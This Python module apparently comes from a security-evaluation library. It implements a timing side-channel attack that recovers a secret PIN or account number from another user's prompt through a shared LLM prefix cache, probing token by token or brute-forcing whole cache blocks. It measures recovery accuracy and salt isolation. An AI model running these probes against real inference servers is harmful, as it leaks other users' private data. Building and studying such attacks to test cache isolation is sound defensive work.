"""Recovering a secret through the cache: token by token at page size 1, a whole block at a time at 16.

The victim's prompt is a template the attacker knows (``head``), then a short
secret (a PIN, an account number) drawn from an alphabet the attacker knows,
then more text. What the cache shares decides how the secret falls:

- **token by token** (:func:`recover_tokens`; radix cache, ``page_size=1``):
  for position ``i`` the attacker sends ``head + guess[:i] + [c, x]`` for
  every candidate ``c`` (``x`` a fresh token). If ``c`` is right the cache
  holds everything but ``x``: one token is computed; else two are. The
  fastest probe names the token: ``len(alphabet)`` probes per token. The
  difference is one token of prefill, so it is small (SGLang issue 1504:
  "the timing decrease of one more shared token is often negligible") and a
  noisy machine makes some positions wrong. A wrong position shows itself
  at the next one (all its probes miss alike), so the attacker then tries
  the runner-up there.
- **a block at a time** (:func:`recover_block`; block hashes, block size
  16): a block is shared only whole, so a probe that gets one more token
  right hits nothing more; the attacker must guess all the secret tokens
  that share a block at once: ``len(alphabet) ** k`` probes for ``k`` of
  them, each a clear signal (a whole block computed or not). Harder, not
  safe: a 2-digit secret costs 100 probes, a 4-digit one 10,000.

Each probe caches itself (the attacker's own prefix), so every candidate
is tried once; probes of one position go in random order.
"""

from __future__ import annotations

import itertools
import random
from collections.abc import Sequence
from dataclasses import dataclass, field

from minikv.errors import InvalidRequestError
from minikv.security.attack import random_tokens
from minikv.security.auc import roc_auc
from minikv.security.probes import Prober


@dataclass
class RecoveryResult:
    """The secret, the attacker's guess, and every probe's TTFT (``ttfts[i][candidate]``)."""

    secret: list[int]
    guess: list[int] = field(default_factory=list)
    ttfts: list[dict[tuple[int, ...], float]] = field(default_factory=list)
    probes: int = 0

    @property
    def tokens_right(self) -> int:
        return sum(g == s for g, s in zip(self.guess, self.secret))

    @property
    def auc(self) -> float:
        """Right candidate against wrong ones, per position with a right prefix, scored by ``-TTFT``."""
        right, wrong = [], []
        width = len(next(iter(self.ttfts[0]))) if self.ttfts else 1
        for i, probes in enumerate(self.ttfts):
            truth = tuple(self.secret[i * width:(i + 1) * width])
            if self.guess[:i * width] != self.secret[:i * width]:
                break  # after a wrong position nothing can hit
            for cand, t in probes.items():
                (right if cand == truth else wrong).append(-t)
        return roc_auc(right, wrong) if right and wrong else float("nan")


def _start(prober: Prober, rng: random.Random, head: list[int], secret: list[int], vocab: int,
           victim_salt: str | None, attacker_salt: str | None) -> None:
    """Warm up, let the victim send ``head + secret + more``, and prime the head under the attacker's salt.

    Priming (``head`` + a fresh token) makes the known head cached for the
    attacker whatever the salts, so every probe is timed on the same footing
    (else the first one would also pay for the head).
    """
    prober.send(random_tokens(rng, len(head) + len(secret) + 1, vocab))
    prober.send(head + secret + random_tokens(rng, 16, vocab), victim_salt)
    prober.send(head + random_tokens(rng, 1, vocab), attacker_salt)


def recover_tokens(
    prober: Prober,
    rng: random.Random,
    *,
    head: Sequence[int],
    secret: Sequence[int],
    alphabet: Sequence[int],
    vocab: int,
    victim_salt: str | None = None,
    attacker_salt: str | None = None,
    clear_ratio: float = 0.75,
) -> RecoveryResult:
    """The victim sends ``head + secret + more``; the attacker recovers ``secret`` one token at a time.

    A position's probes *show a hit* when the fastest is below ``clear_ratio``
    times the runner-up (a hit computes one token, the others two). When they show none, the token guessed just before
    is probably wrong (nothing past a wrong token can hit), so the attacker
    tries that position's other candidates, fastest first, until one makes
    this position show a hit; if none does, it keeps its first guess and
    this position's fastest candidate. (Probing a position again under the
    same prefix is no use: the attacker's own probes are cached by then.)
    If the very first position shows no hit, the victim's prompt is not in
    the cache for this attacker (a salt): it guesses without retrying.
    """
    head, secret, alphabet = list(head), list(secret), list(dict.fromkeys(alphabet))
    if not set(secret) <= set(alphabet) or len(alphabet) < 2:
        raise InvalidRequestError("the secret's tokens must come from an alphabet of at least 2 tokens")
    _start(prober, rng, head, secret, vocab, victim_salt, attacker_salt)
    result = RecoveryResult(secret)

    def probe_position(prefix: list[int]) -> tuple[dict[tuple[int, ...], float], bool]:
        order = alphabet[:]
        rng.shuffle(order)
        probes = {}
        for c in order:
            probes[(c,)] = prober.send(head + prefix + [c] + random_tokens(rng, 1, vocab), attacker_salt).ttft
            result.probes += 1
        times = sorted(probes.values())
        return probes, times[0] < clear_ratio * times[1]

    def ranked(probes: dict[tuple[int, ...], float]) -> list[int]:
        return [c for (c,) in sorted(probes, key=probes.__getitem__)]

    cached = False  # has any position shown a hit? (none: the victim's prompt is not cached for us)
    while len(result.guess) < len(secret):
        probes, clear = probe_position(result.guess)
        cached = clear or bool(cached)
        if not clear and result.ttfts and cached:
            for other in ranked(result.ttfts[-1])[1:]:
                retry, retry_clear = probe_position(result.guess[:-1] + [other])
                if retry_clear:
                    result.guess[-1] = other
                    probes = retry
                    break
        result.ttfts.append(probes)
        result.guess.append(ranked(probes)[0])
    return result


def recover_block(
    prober: Prober,
    rng: random.Random,
    *,
    head: Sequence[int],
    secret: Sequence[int],
    alphabet: Sequence[int],
    vocab: int,
    block_size: int,
    victim_salt: str | None = None,
    attacker_salt: str | None = None,
) -> RecoveryResult:
    """Recover ``secret`` (ending a block: ``len(head + secret) % block_size == 0``) by trying every combination.

    ``len(alphabet) ** len(secret)`` probes ``head + combo + [x]``; the right
    combination completes a cached block, so its probe computes one token
    instead of ``len(head + secret) % ... + 1``.
    """
    head, secret, alphabet = list(head), list(secret), list(dict.fromkeys(alphabet))
    if (len(head) + len(secret)) % block_size:
        raise InvalidRequestError(
            f"head ({len(head)}) + secret ({len(secret)}) tokens must end a block of {block_size}: the block "
            f"that holds the secret can only hit whole")
    _start(prober, rng, head, secret, vocab, victim_salt, attacker_salt)
    combos = list(itertools.product(alphabet, repeat=len(secret)))
    rng.shuffle(combos)
    result = RecoveryResult(secret)
    probes = {}
    for combo in combos:
        probes[combo] = prober.send(head + list(combo) + random_tokens(rng, 1, vocab), attacker_salt).ttft
        result.probes += 1
    result.ttfts.append(probes)
    result.guess = list(min(probes, key=probes.__getitem__))
    return result


__all__ = ["RecoveryResult", "recover_block", "recover_tokens"]
